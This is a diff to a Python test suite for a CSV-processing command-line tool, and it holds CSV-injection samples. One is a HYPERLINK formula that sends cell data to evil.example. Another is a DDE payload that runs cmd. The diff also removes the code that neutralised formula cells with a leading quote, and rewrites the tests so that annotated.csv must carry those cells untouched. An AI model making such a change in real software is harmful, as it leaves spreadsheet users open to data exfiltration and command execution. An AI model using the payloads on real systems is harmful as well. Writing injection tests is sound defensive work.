@@ -15,8 +15,8 @@ the values the reader parsed (so "readable" is checked as "read correctly", not 
 Each case's comment says what its readable lines are. A case is either
 
 - processable: exit 0 (`--fail-on never`); annotated.csv holds exactly the readable lines, once each,
-  in input order, with their input cells untouched (a cell a spreadsheet would run as a formula is
-  shown with a leading quote); each unreadable value has an INPUT_UNREADABLE_VALUE finding on its
+  in input order, with their input cells untouched (a cell a spreadsheet would run as a formula
+  too: the contract carries cells untouched); each unreadable value has an INPUT_UNREADABLE_VALUE finding on its
   line naming the column, and a line with nothing unreadable has none; or
 - unprocessable: exit 2, one line on stderr naming the file, and the --out folder not created (or,
   when a previous run's output is there, left as it was).
@@ -841,8 +841,8 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?q="&B2,"Click")'
 def _formula_cells(folder: Path) -> Case:
     # Cells a spreadsheet would run: "=HYPERLINK(...)" as units (unreadable: reported, and the
     # finding keeps the value as it is) and as curriculum_id (readable text); "+SUM", "@SUM", "-2+3"
-    # and a DDE payload in the extra name column and modifiers. annotated.csv shows each with a
-    # leading quote; the credit "-5" is a number and stays as it is. Every line comes out.
+    # and a DDE payload in the extra name column and modifiers. annotated.csv carries each as it
+    # is (the contract: cells untouched), and the unreadable one is not echoed. Every line comes out.
     rows = base_rows()
     rows[0][col("units")] = HYPERLINK
     rows[1][col("curriculum_id")] = HYPERLINK
@@ -853,7 +853,7 @@ def _formula_cells(folder: Path) -> Case:
     rows[6][col("modifiers")] = "=cmd|' /C calc'!A0"
     built = _plain(folder, rows)
     assert isinstance(built.expect, Processed)
-    built.expect.unreadable = {"C-1001": {"units", HYPERLINK}}
+    built.expect.unreadable = {"C-1001": {"units", "a value (not shown)"}}
     return built
 
 
@@ -986,7 +986,7 @@ def _start(name: str, root: Path, probe: Path) -> tuple[Case, Path, Path, dict[s
     if isinstance(built.expect, Unprocessable) and built.expect.previous_output:
         out.mkdir()
         (out / "annotated.csv").write_text("from the previous run\n", encoding="utf-8")
-        (out / "marker.txt").write_text("keep me\n", encoding="utf-8")
+        (out / "summary.md").write_text("keep me\n", encoding="utf-8")
     args = ["run", str(built.export), "--out", str(out), "--rules", str(probe), "--run-date", RUN_DATE,
             "--fail-on", "never", *built.args]
     return built, out, parent, snapshot(parent), args
@@ -1047,22 +1047,6 @@ def read_annotated(out: Path) -> tuple[list[str], list[list[str]]]:
 def read_findings(out: Path) -> list[dict[str, Any]]:
     text = (out / "findings.jsonl").read_text(encoding="utf-8")
     return [json.loads(line) for line in text.splitlines() if line.strip()]
-
-
-def _is_number(text: str) -> bool:
-    try:
-        float(text.replace(",", ""))
-    except ValueError:
-        return False
-    return True
-
-
-def shown(value: str | None) -> str | None:
-    """A cell as annotated.csv must show it: a formula-looking cell gets a leading quote (OWASP CSV
-    injection), a plain signed number does not."""
-    if value and value[0] in "=+-@\t\r" and not _is_number(value):
-        return "'" + value
-    return value
 
 
 def short(value: Any) -> str:
@@ -1131,8 +1115,8 @@ def test_every_readable_line_once_in_order_cells_untouched(runs: dict[str, Futur
         for column, cell, value in zip(expect.header, got, want, strict=False):
             if value is ANY:
                 continue
-            assert cell == shown(value), (
-                f"line {number} ({want[0]}), column {column!r}: {short(cell)} != {short(shown(value))}"
+            assert cell == value, (
+                f"line {number} ({want[0]}), column {column!r}: {short(cell)} != {short(value)}"
             )
 
 
@@ -1187,25 +1171,25 @@ def test_no_phi_in_findings_summary_or_messages(runs: dict[str, Future[Run]], na
         assert not leaked, f"PHI in {column} of {leaked}"
 
 
-def test_formula_neutralised_in_annotated_but_kept_in_findings(runs: dict[str, Future[Run]]) -> None:
+def test_formula_cells_are_carried_untouched_and_scrub_columns_neutralised(runs: dict[str, Future[Run]]) -> None:
     run = get(runs, "formula-cells")
     processed(run)
     header, rows = read_annotated(run.out)
-    assert rows[0][header.index("units")] == "'" + HYPERLINK
-    assert rows[1][header.index("curriculum_id")] == "'" + HYPERLINK
+    assert rows[0][header.index("units")] == HYPERLINK
+    assert rows[1][header.index("curriculum_id")] == HYPERLINK
     assert rows[5][header.index("charge")] == "-5"
     messages = [f["message"] for f in read_findings(run.out) if f["rule_id"] == UNREADABLE]
-    assert any(f"units: '{HYPERLINK}'" in m for m in messages), messages  # as written, no added quote
+    assert any("units: a value (not shown)" in m for m in messages), messages
     for row in rows:
         for cell in row[-len(SCRUB_COLUMNS):]:
             assert not cell or cell[0] not in "=+-@", f"a scrub column starts like a formula: {cell!r}"
 
 
-def test_a_formula_in_a_header_cell_is_neutralised_too(tmp_path: Path) -> None:
+def test_a_formula_in_a_header_cell_is_carried_untouched(tmp_path: Path) -> None:
     header = [*HEADER, HYPERLINK]
     export = tmp_path / "export.csv"
     export.write_text(csv_text(header, [[*r, "x"] for r in base_rows()]), encoding="utf-8")
     done = run_cli("run", str(export), "--out", str(tmp_path / "out"), "--run-date", RUN_DATE, "--fail-on", "never")
     assert done.returncode == 0, done.stderr
     written, _ = read_annotated(tmp_path / "out")
-    assert written[: len(header)] == [*HEADER, "'" + HYPERLINK]
+    assert written[: len(header)] == [*HEADER, HYPERLINK]
